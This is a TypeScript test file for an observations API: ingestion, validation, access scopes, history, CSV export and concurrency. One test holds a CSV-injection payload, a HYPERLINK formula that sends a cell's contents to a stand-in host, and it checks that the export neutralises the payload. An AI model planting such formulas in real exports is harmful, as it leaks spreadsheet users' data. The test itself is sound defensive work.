import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contextFor, type AppContext } from '../../../app-context.ts';
import type { Role } from '../../../db/tables/access.ts';
import { countVersions } from '../../../repositories/observations.repository.ts';
import { createTestDatabase, testEngine } from '../../../testing/test-database.ts';
import { seedObservationFixtures } from '../../../testing/observation-fixtures.ts';
import { createToken } from '../../../use-cases/tokens/create-token.ts';
import { buildServer } from '../../build-server.ts';
import type { App } from '../../route-module.ts';

// Asymmetric matchers typed as what they match, for the type-aware lint.
const anyText = expect.any(String) as unknown as string;
const textMatching = (re: RegExp) => expect.stringMatching(re) as unknown as string;

describe(`observations API on ${testEngine}`, () => {
  let database: Awaited<ReturnType<typeof createTestDatabase>>;
  let ctx: AppContext;
  let app: App;
  const tokens = new Map<string, string>();
  const bearer = async (role: Role, unit: string, scopes: string[] = []) => {
    const key = `${role}@${unit}:${scopes.join(',')}`;
    let token = tokens.get(key);
    if (!token) {
      token = (await createToken(ctx, 'test', { unit, role, scopes })).token;
      tokens.set(key, token);
    }
    return { authorization: `Bearer ${token}` };
  };
  const post = async (payload: unknown, headers: Record<string, string> = {}, query = '') =>
    app.inject({ method: 'POST', url: `/api/v1/observations${query}`, payload: payload as object, headers: { ...(await bearer('reporter', 'P_VT')), ...headers } });

  beforeAll(async () => {
    database = await createTestDatabase();
    ctx = contextFor(database);
    await seedObservationFixtures(ctx);
    app = await buildServer(ctx);
  });
  afterAll(async () => {
    await app.close();
    await database.close();
  });

  it('stores a JSON batch and answers imported / updated / unchanged', async () => {
    const rows = [
      { indicator: 'DN_SO', unit: 'P_VT', period: '2026-01', value: 10 },
      { indicator: 'DVC_TT', unit: 'P_VT_VH', period: '2026-Q1', numerator: 9, denominator: 10, note: 'theo DVC', evidenceUrl: 'https://dvc.example/1' },
    ];
    const first = await post({ source: 'dvc', observations: rows });
    expect(first.statusCode).toBe(200);
    expect(first.json()).toEqual({ imported: 2, updated: 0, unchanged: 0 });
    const second = await post({ source: 'dvc', observations: [rows[0], { ...rows[1], numerator: 10 }] });
    expect(second.json()).toEqual({ imported: 0, updated: 1, unchanged: 1 });
  });

  it('accepts the same rows as text/csv, with or without a header', async () => {
    const headers = { ...(await bearer('reporter', 'P_VT')), 'content-type': 'text/csv' };
    const bare = await app.inject({ method: 'POST', url: '/api/v1/observations?source=csv-sys', headers, payload: 'DN_SO,P_VT,2026-02,11\nDVC_TT,P_VT,2026-02,,45,50\n' });
    expect(bare.statusCode).toBe(200);
    expect(bare.json()).toEqual({ imported: 2, updated: 0, unchanged: 0 });
    const withHeader = await app.inject({ method: 'POST', url: '/api/v1/observations', headers, payload: 'indicator,unit,period,value,numerator,denominator,note\nDN_SO,P_VT,2026-02,12,,,sửa\n' });
    expect(withHeader.json()).toEqual({ imported: 0, updated: 1, unchanged: 0 });
    const res = await app.inject({ method: 'GET', url: '/api/v1/observations?indicator=DVC_TT&unit=P_VT&from=2026-02&to=2026-02', headers: await bearer('viewer', 'P_VT') });
    expect(res.json<{ observations: { value: number; source: string; origin: string }[] }>().observations).toEqual([
      expect.objectContaining({ value: 90, source: 'csv-sys', origin: 'system' }),
    ]);
  });

  it('rejects a batch with bad rows as a whole, naming every row and field (JSON and CSV)', async () => {
    const before = await countVersions(ctx.db);
    const rows: unknown[] = Array.from({ length: 500 }, (_, i) => ({ indicator: 'DN_SO', unit: 'P_VT', period: `${1950 + (i % 70)}`, value: i }));
    rows[3] = { indicator: 'DN_SO', unit: 'P_VT', period: '2026-Q5', value: 1 };
    rows[499] = { indicator: 'DN_SO', unit: 'P_VT', period: '2026', value: 'nhiều' };
    const res = await post({ source: 'dvc', observations: rows });
    expect(res.statusCode).toBe(422);
    expect(res.headers['content-type']).toContain('application/problem+json');
    expect(res.json<{ conflicts: unknown[] }>().conflicts).toEqual([
      { index: 3, field: 'period', code: 'observation.invalid_period', params: { rawPeriod: '2026-Q5' }, message: 'kỳ "2026-Q5" không hợp lệ; dùng 2026-03, 2026-Q1, 2026-H1 hoặc 2026' },
      { index: 499, field: 'value', code: 'observation.must_number', params: { field: 'value' }, message: anyText },
    ]);
    // Said again in English for a reader who asks for it; the code stays.
    const inEnglish = await app.inject({ method: 'POST', url: '/api/v1/observations', headers: { ...(await bearer('reporter', 'P_VT')), 'accept-language': 'en' }, payload: { source: 'dvc', observations: rows } });
    const english = inEnglish.json<{ detail: string; code: string; conflicts: { code: string; message: string }[] }>();
    expect([english.code, english.detail]).toEqual(['observation.batch_has_invalid_rows_nothing', 'The batch has invalid rows; nothing was stored']);
    expect(english.conflicts.map((c) => c.message)).toEqual(['invalid period "2026-Q5"; use 2026-03, 2026-Q1, 2026-H1 or 2026', 'value must be a number']);
    const csv = await app.inject({
      method: 'POST', url: '/api/v1/observations', headers: { ...(await bearer('reporter', 'P_VT')), 'content-type': 'text/csv' },
      payload: 'DN_SO,P_VT,2020,1\nDN_SO,P_NOWHERE,2020,1\nDVC_TT,P_VT,2020,,1,0\n',
    });
    expect(csv.statusCode).toBe(422);
    expect(csv.json<{ conflicts: { index: number; field: string }[] }>().conflicts.map((c) => `${c.index}:${c.field}`)).toEqual(['1:unit', '2:denominator']);
    expect(await countVersions(ctx.db)).toBe(before);
  });

  it('answers malformed bodies with 4xx naming the field', async () => {
    const notJson = await app.inject({ method: 'POST', url: '/api/v1/observations', headers: { ...(await bearer('reporter', 'P_VT')), 'content-type': 'application/json' }, payload: '{"source": "x", "observations": [' });
    expect(notJson.statusCode).toBe(400);
    const noSource = await post({ observations: [{ indicator: 'DN_SO', unit: 'P_VT', period: '2026', value: 1 }] });
    expect(noSource.statusCode).toBe(400);
    expect(noSource.json<{ errors: { field: string }[] }>().errors.map((e) => e.field)).toContain('body.source');
    const notList = await post({ source: 'x', observations: 'all of them' });
    expect(notList.statusCode).toBe(400);
    expect(notList.json<{ errors: { field: string }[] }>().errors.map((e) => e.field)).toEqual([expect.stringMatching(/^body\.observations/)]);
    const rowNotObject = await post({ source: 'x', observations: [42] });
    expect([400, 422]).toContain(rowNotObject.statusCode);
  });

  it('validates only on ?dryRun=true', async () => {
    const before = await countVersions(ctx.db);
    const res = await post({ source: 'dvc', observations: [{ indicator: 'DN_SO', unit: 'P_VT', period: '2019', value: 1 }] }, {}, '?dryRun=true');
    expect(res.json()).toEqual({ imported: 1, updated: 0, unchanged: 0, dryRun: true });
    expect(await countVersions(ctx.db)).toBe(before);
  });

  it('replays the first answer for the same Idempotency-Key and body, and refuses another body with 409', async () => {
    const body = { source: 'dvc', observations: [{ indicator: 'DN_SO', unit: 'P_VT', period: '2018', value: 5 }] };
    const first = await post(body, { 'idempotency-key': 'batch-2018' });
    const count = await countVersions(ctx.db);
    const again = await post(body, { 'idempotency-key': 'batch-2018' });
    expect(again.statusCode).toBe(200);
    expect(again.json()).toEqual(first.json());
    expect(again.headers['idempotent-replayed']).toBe('true');
    const other = await post({ ...body, observations: [{ ...body.observations[0], value: 6 }] }, { 'idempotency-key': 'batch-2018' });
    expect(other.statusCode).toBe(409);
    expect(await countVersions(ctx.db)).toBe(count);
  });

  // Every endpoint of this area against every role, inside and outside the role's subtree.
  const roles: Role[] = ['viewer', 'reporter', 'approver', 'unit_admin', 'system_admin'];
  it.each(roles)('enforces scope for %s granted on P_VT', async (role) => {
    const auth = await bearer(role, 'P_VT');
    const writes = role !== 'viewer';
    const before = await countVersions(ctx.db);
    const inside = await app.inject({ method: 'POST', url: '/api/v1/observations', headers: auth, payload: { source: role, observations: [{ indicator: 'DN_SO', unit: 'P_VT_VH', period: '2017', value: roles.indexOf(role) }] } });
    expect(inside.statusCode).toBe(writes ? 200 : 403);
    const outside = await app.inject({ method: 'POST', url: '/api/v1/observations', headers: auth, payload: { source: role, observations: [{ indicator: 'DN_SO', unit: 'P_HK', period: '2017', value: 100 + roles.indexOf(role) }] } });
    expect(outside.statusCode).toBe(role === 'system_admin' ? 200 : 403);
    const mixed = await app.inject({ method: 'POST', url: '/api/v1/observations', headers: auth, payload: { source: role, observations: [{ indicator: 'DN_SO', unit: 'P_VT', period: '2016', value: 1 }, { indicator: 'DN_SO', unit: 'P_HK', period: '2016', value: 1 }] } });
    if (role !== 'system_admin') {
      expect(mixed.statusCode).toBe(403);
      expect(await countVersions(ctx.db)).toBe(before + (writes ? 1 : 0));
    }
    const readOutside = await app.inject({ method: 'GET', url: '/api/v1/observations?unit=P_HK', headers: auth });
    expect(readOutside.statusCode).toBe(200);
    const outsideRows = readOutside.json<{ observations: unknown[] }>().observations;
    if (role === 'system_admin') expect(outsideRows.length).toBeGreaterThan(0);
    else expect(outsideRows).toEqual([]);
    const share = await app.inject({ method: 'GET', url: '/api/v1/units/P_HK/data-share', headers: auth });
    expect(share.statusCode).toBe(role === 'system_admin' ? 200 : 403);
    const shareInside = await app.inject({ method: 'GET', url: '/api/v1/units/P_VT/data-share?subtree=true', headers: auth });
    expect(shareInside.statusCode).toBe(200);
    for (const url of ['/api/v1/indicators', '/api/v1/indicators/DN_SO', '/api/v1/connectors', '/api/v1/observations/export.csv']) {
      expect((await app.inject({ method: 'GET', url, headers: auth })).statusCode).toBe(200);
    }
    const define = await app.inject({ method: 'POST', url: '/api/v1/indicators', headers: auth, payload: { code: `NEW_${role}`, name: 'Mới', measure: 'lượt', direction: 'up', aggregation: 'sum' } });
    expect(define.statusCode).toBe(role === 'system_admin' ? 201 : 403);
  });

  it('answers anonymous requests with 401', async () => {
    for (const [method, url] of [['GET', '/api/v1/observations'], ['POST', '/api/v1/observations'], ['GET', '/api/v1/indicators'], ['GET', '/api/v1/connectors'], ['GET', '/api/v1/units/P_VT/data-share']] as const) {
      const res = await app.inject({ method, url, ...(method === 'POST' ? { payload: { source: 'x', observations: [{ indicator: 'DN_SO', unit: 'P_VT', period: '2026', value: 1 }] } } : {}) });
      expect(res.statusCode, `${method} ${url}`).toBe(401);
    }
  });

  it('hides classified indicators from roles without the right', async () => {
    const admin = await bearer('system_admin', 'HN');
    expect((await app.inject({ method: 'POST', url: '/api/v1/observations', headers: admin, payload: { source: 'mat', observations: [{ indicator: 'MAT_01', unit: 'P_VT', period: '2026', value: 1 }] } })).statusCode).toBe(200);
    const viewer = await bearer('viewer', 'P_VT');
    const seenByViewer = await app.inject({ method: 'GET', url: '/api/v1/observations?indicator=MAT_01', headers: viewer });
    expect(seenByViewer.json<{ observations: unknown[] }>().observations).toEqual([]);
    expect((await app.inject({ method: 'GET', url: '/api/v1/indicators/MAT_01', headers: viewer })).statusCode).toBe(404);
    expect((await app.inject({ method: 'GET', url: '/api/v1/indicators', headers: viewer })).json<{ indicators: { code: string }[] }>().indicators.map((i) => i.code)).not.toContain('MAT_01');
    const approver = await bearer('approver', 'P_VT');
    expect((await app.inject({ method: 'GET', url: '/api/v1/observations?indicator=MAT_01', headers: approver })).json<{ observations: unknown[] }>().observations).toHaveLength(1);
    const approverElsewhere = await bearer('approver', 'P_HK');
    expect((await app.inject({ method: 'GET', url: '/api/v1/observations?indicator=MAT_01', headers: approverElsewhere })).json<{ observations: unknown[] }>().observations).toEqual([]);
  });

  it('returns every version with provenance on ?history=true, and exports it as CSV', async () => {
    const auth = await bearer('viewer', 'P_VT');
    const res = await app.inject({ method: 'GET', url: '/api/v1/observations?indicator=DN_SO&unit=P_VT&from=2026-01&to=2026-H1&history=true', headers: auth });
    const rows = res.json<{ observations: Record<string, unknown>[] }>().observations;
    expect(rows.map((r) => `${String(r.period)} v${String(r.version)} ${String(r.value)} ${String(r.current)}`)).toEqual([
      '2026-01 v1 10 true', '2026-02 v1 11 false', '2026-02 v2 12 true',
    ]);
    expect(rows[2]).toMatchObject({ origin: 'system', source: textMatching(/^token:/), note: 'sửa', actor: textMatching(/^token:/), recordedAt: anyText });
    const current = await app.inject({ method: 'GET', url: '/api/v1/observations?indicator=DN_SO&unit=P_VT&from=2026-01&to=2026-H1', headers: auth });
    expect(current.json<{ observations: { value: number }[] }>().observations.map((r) => r.value)).toEqual([10, 12]);
    const bad = await app.inject({ method: 'GET', url: '/api/v1/observations?from=2026-14', headers: auth });
    expect(bad.statusCode).toBe(422);
    const csv = await app.inject({ method: 'GET', url: '/api/v1/observations/export.csv?indicator=DN_SO&unit=P_VT&from=2026-01&to=2026-12', headers: auth });
    expect(csv.headers['content-type']).toContain('text/csv');
    const records: Record<string, string>[] = parse(csv.body, { columns: true });
    expect(records.map((r) => `${r.period} v${r.version} ${r.value} ${r.current}`)).toEqual(['2026-01 v1 10 true', '2026-02 v1 11 false', '2026-02 v2 12 true']);
  });

  it('writes no cell a spreadsheet would run as a formula (CSV injection)', async () => {
    const admin = await bearer('system_admin', 'HN');
    const note = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")';
    const ingest = await app.inject({ method: 'POST', url: '/api/v1/observations', headers: admin, payload: { source: '@SUM(1+1)', observations: [{ indicator: 'DN_SO', unit: 'P_VT', period: '2025-12', value: 3, note }] } });
    expect(ingest.statusCode).toBe(200);
    const csv = await app.inject({ method: 'GET', url: '/api/v1/observations/export.csv?indicator=DN_SO&unit=P_VT&from=2025-12&to=2025-12', headers: admin });
    const records: Record<string, string>[] = parse(csv.body, { columns: true });
    expect(records).toHaveLength(1);
    // Text that starts like a formula is prefixed with an apostrophe; the number stays a number.
    expect(records[0]).toMatchObject({ note: `'${note}`, source: "'@SUM(1+1)", value: '3' });
  });

  it('reports the share of values that came from systems', async () => {
    const res = await app.inject({ method: 'GET', url: '/api/v1/units/P_VT/data-share', headers: await bearer('viewer', 'P_VT') });
    const share = res.json<{ total: number; fromSystems: number; manual: number; systemShare: number }>();
    expect(share.total).toBeGreaterThan(0);
    expect(share.fromSystems + share.manual).toBeLessThanOrEqual(share.total);
    expect(share.systemShare).toBe(share.fromSystems / share.total);
    expect((await app.inject({ method: 'GET', url: '/api/v1/units/NOPE/data-share', headers: await bearer('system_admin', 'HN') })).statusCode).toBe(404);
  });

  it('keeps every version when 50 clients write the same cells at once over HTTP', async () => {
    const server = await buildServer(ctx);
    await server.listen({ port: 0, host: '127.0.0.1' });
    try {
      const { port } = server.server.address() as AddressInfo;
      const auth = await bearer('reporter', 'P_HK');
      const clients = 50;
      const cells = ['2015-01', '2015-02', '2015-03'];
      const answers = await Promise.all(
        Array.from({ length: clients }, async (_, c) => {
          // Each client sends the cells in a different order: lock ordering must prevent deadlocks.
          const order = c % 2 ? [...cells].reverse() : cells;
          const res = await fetch(`http://127.0.0.1:${port}/api/v1/observations`, {
            method: 'POST',
            headers: { ...auth, 'content-type': 'application/json' },
            body: JSON.stringify({ source: `client-${c}`, observations: order.map((period) => ({ indicator: 'DN_SO', unit: 'P_HK', period, value: c })) }),
          });
          return { status: res.status, body: (await res.json()) as Record<string, number> };
        }),
      );
      expect(answers.filter((a) => a.status !== 200)).toEqual([]);
      expect(answers.reduce((n, a) => n + (a.body.imported ?? 0), 0)).toBe(cells.length);
      const history = await app.inject({ method: 'GET', url: '/api/v1/observations?indicator=DN_SO&unit=P_HK&from=2015&to=2015&history=true&limit=1000', headers: await bearer('system_admin', 'HN') });
      const versions = history.json<{ observations: { period: string; version: number; value: number; current: boolean; source: string }[] }>().observations;
      for (const period of cells) {
        const ofCell = versions.filter((v) => v.period === period);
        // Every client's write is a version (each value differs from the one before it), numbered 1..N without gaps.
        expect(ofCell.map((v) => v.version)).toEqual(Array.from({ length: clients }, (_, i) => i + 1));
        expect(new Set(ofCell.map((v) => v.source)).size).toBe(clients);
        expect(ofCell.filter((v) => v.current).map((v) => v.version)).toEqual([clients]);
      }
    } finally {
      await server.close();
    }
  });
});
